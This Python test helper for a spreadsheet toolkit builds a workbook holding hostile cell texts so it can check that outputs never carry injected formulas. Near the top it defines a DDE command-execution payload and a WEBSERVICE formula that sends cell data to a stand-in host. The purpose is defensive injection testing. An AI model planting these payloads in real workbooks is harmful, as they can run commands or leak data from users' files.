"""A workbook whose texts are formulas, DDE and control characters (issue 13, point 3), and the rules every
output is held to: no formula the toolkit did not write, every formula-like text a string."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
from lxml import etree
from openpyxl import Workbook
from openpyxl.formula import Tokenizer

from xl_tools.core.safe_text import formula_like
from xl_tools.workbook.template import ProjectSpec, add_project_sheet

from tests.helpers.excel_functions import TOOLKIT_FUNCTIONS
from tests.helpers.paths import REPO


YUSHUI = REPO / "workbooks" / "渝水区医保局2022_项目自评.xlsx"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

DDE = "=cmd|'/Ccalc'!A0"
EXFIL = '=WEBSERVICE("http://example.invalid/?"&ENCODEURL(G3&"|"&F3))'
PLUS, MINUS, AT = "+1+1", "-2+3", "@SUM(1,2)"
TAB = "\t=1+1"
SHEET = "=cmd|'x'!A0"
CODE = "123456789012345678901"
DATE_LIKE = "2023-12"
EXPLANATION_STORED = '=HYPERLINK("http://example.invalid/","点这里")_x0001_原因'

REFERENCE = re.compile(r"(?:'((?:[^']|'')+)'!)?(\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?|\$?\d+:\$?\d+)")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
ESCAPE = re.compile(r"_x[0-9A-Fa-f]{4}_")


# ------------------------------------------------------------------ hostile inputs


def set_texts(src: Path, dst: Path, sheet_part: str, texts: dict[str, str], *,
              rename: tuple[str, str] | None = None) -> Path:
    """A copy of a package with cells of one sheet set to inline strings stored exactly as given ("_x0001_"
    stays those seven characters, which readers decode to U+0001), and a sheet renamed with its defined names."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == sheet_part:
                root = etree.fromstring(data)
                for ref, text in texts.items():
                    c = root.find(f".//{{{MAIN}}}c[@r='{ref}']")
                    assert c is not None, ref
                    for child in list(c):
                        c.remove(child)
                    c.set("t", "inlineStr")
                    t = etree.SubElement(etree.SubElement(c, f"{{{MAIN}}}is"), f"{{{MAIN}}}t")
                    t.text = text
                    t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
                data = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
            elif info.filename == "xl/workbook.xml" and rename:
                old, new = rename
                root = etree.fromstring(data)
                for sheet in root.iter(f"{{{MAIN}}}sheet"):
                    if sheet.get("name") == old:
                        sheet.set("name", new)
                quoted = "'" + new.replace("'", "''") + "'!"
                for name in root.iter(f"{{{MAIN}}}definedName"):
                    name.text = name.text.replace(f"'{old}'!", quoted).replace(f"{old}!", quoted)
                data = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
            zout.writestr(info, data)
    return dst


def _indicator(name: str, target: object, actual: object, weight: float, **kw: Any) -> dict[str, Any]:
    return {"level1": kw.get("level1", "产出指标"), "level2": kw.get("level2", "数量指标"), "name": name,
            "unit": kw.get("unit", "人"), "op": kw.get("op", "≥"), "target": target, "actual": actual,
            "weight": weight}


def hostile_form(folder: Path, name: str = "某单位2023_自评.xlsx", *, controls: bool = True) -> Path:
    """Two template sheets with placeholders, then the hostile texts written into the XML (not by the code
    under test): sheet 1 renamed SHEET with name DDE, code CODE, 主管部门 AT, 实施单位 EXFIL, indicators PLUS
    (below its target, with a hostile explanation) and MINUS (指标值 PLUS, 完成值 MINUS), a claimed score
    TAB; sheet 项目二 with control characters in its
    name, an indicator and a 完成值, DATE_LIKE as its 项目编码, and a 完成值 left blank (普通指标, G14).
    Without ``controls`` sheet 项目二 keeps plain names: only the formula-like texts are there."""
    wb = Workbook()
    wb.remove(wb.active)
    funds = {"年度资金总额": (100, 100, 90), "其中：当年财政拨款": (100, 100, 90)}
    sheet_two = [_indicator("x", "2023年12月底前", "x", 30, unit="", op="", level2="时效指标"),
                 _indicator("普通指标", 100, None, 30, level1="效益指标"),
                 _indicator("满意度", 90, 95, 30, unit="%", level1="满意度指标")]
    add_project_sheet(wb, "项目一", ProjectSpec(name="x", code="x", department="x", unit="x", funds=funds, indicators=[
        _indicator("x", 100, 80, 30), _indicator("x", 100, 100, 30, level1="效益指标", level2="社会效益指标"),
        _indicator("满意度", 90, 95, 30, unit="%", level1="满意度指标", level2="服务对象满意度指标")]))
    add_project_sheet(wb, "项目二", ProjectSpec(name="x", code="x", department="渝中区医保局", unit="渝中区医保局",
                                              funds=funds, indicators=sheet_two))
    wb.save(folder / "base.xlsx")
    set_texts(folder / "base.xlsx", folder / "mid.xlsx", "xl/worksheets/sheet1.xml",
              {"B3": DDE, "H3": CODE, "B4": AT, "H4": EXFIL, "C13": PLUS, "C14": MINUS, "F14": PLUS, "G14": MINUS,
               "I13": TAB, "M13": EXPLANATION_STORED},
              rename=("项目一", SHEET))
    second = {"B3": "医保_x0001_经办_x000B_项目", "C13": "指标_x0001_名称", "G13": "按时_x0001_完成"} if controls else {}
    out = set_texts(folder / "mid.xlsx", folder / name, "xl/worksheets/sheet2.xml", {"H3": DATE_LIKE, **second})
    (folder / "base.xlsx").unlink()
    (folder / "mid.xlsx").unlink()
    return out


# ------------------------------------------------------------------ the rules every output is held to


def assert_toolkit_formula(formula: str, sheets: list[str]) -> None:
    """Only the toolkit's functions; every reference a cell, row range or cell range, into an existing sheet
    named in quotes with its apostrophes doubled; everything else string literals, numbers and operators."""
    for token in Tokenizer(formula if formula.startswith("=") else "=" + formula).items:
        if token.type == "FUNC" and token.subtype == "OPEN":
            assert token.value[:-1] in TOOLKIT_FUNCTIONS, formula
        elif token.type == "OPERAND" and token.subtype == "RANGE":
            found = REFERENCE.fullmatch(token.value)
            assert found, (token.value, formula)
            assert found[1] is None or found[1].replace("''", "'") in sheets, (token.value, formula)
        elif token.type == "OPERAND":
            assert token.subtype in ("TEXT", "NUMBER", "LOGICAL"), (token.value, formula)


def _content(cell: Any) -> Any:
    return getattr(cell.value, "text", cell.value)  # an array formula as its text


def written_texts(path: Path, source: Path | None = None) -> dict[str, list[tuple[str, str, Any]]]:
    """Every cell the toolkit wrote checked against the rules (with ``source``, cells left as the input had
    them are the user's and skipped); returns text -> [(sheet, cell, openpyxl cell)] of its text cells."""
    wb = openpyxl.load_workbook(path)
    before = openpyxl.load_workbook(source) if source else None
    texts: dict[str, list[tuple[str, str, Any]]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                value = _content(c)
                if before is not None and ws.title in before.sheetnames and \
                        _content(before[ws.title][c.coordinate]) == value:
                    continue  # the user's own cell, left as it was
                if c.data_type == "f":
                    assert_toolkit_formula(value, wb.sheetnames)
                    continue
                if c.hyperlink is not None and c.hyperlink.location:
                    assert_toolkit_formula(c.hyperlink.location, wb.sheetnames)
                if not isinstance(c.value, str):
                    continue
                # openpyxl leaves _xHHHH_ escapes as they are stored: neither a character nor its escape
                assert not CONTROL.search(c.value) and not ESCAPE.search(c.value), (ws.title, c.coordinate, c.value)
                assert c.data_type == "s", (ws.title, c.coordinate, c.value)
                assert c.quotePrefix == formula_like(c.value), (ws.title, c.coordinate, c.value)
                texts.setdefault(c.value, []).append((ws.title, c.coordinate, c))
    with zipfile.ZipFile(path) as zf:  # every defined name as stored (openpyxl keeps print titles apart)
        for name in etree.fromstring(zf.read("xl/workbook.xml")).iter(f"{{{MAIN}}}definedName"):
            assert_toolkit_formula(name.text, wb.sheetnames)
    return texts

